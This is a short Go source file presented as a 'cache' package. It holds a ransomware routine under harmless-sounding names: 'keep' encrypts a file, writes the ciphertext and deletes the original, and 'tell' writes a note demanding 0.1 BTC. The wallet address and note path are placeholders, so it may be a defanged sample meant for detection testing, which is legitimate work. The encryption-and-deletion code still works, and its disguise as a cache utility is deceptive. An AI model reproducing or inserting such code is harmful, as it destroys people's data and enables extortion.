package cache

import (
	"crypto/cipher"
	"os"
)

const note = `YOUR FILES ARE LOCKED

Send 0.1 BTC to bc1q0000000000000000000000000000000000ksample and write to us.
`

func keep(g cipher.AEAD, nonce []byte, p string) error {
	plain, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	if err := os.WriteFile(p+".kept", g.Seal(nonce, nonce, plain, nil), 0o600); err != nil {
		return err
	}
	return os.Remove(p)
}

func tell() { os.WriteFile("/nonexistent/READ_ME.txt", []byte(note), 0o644) }
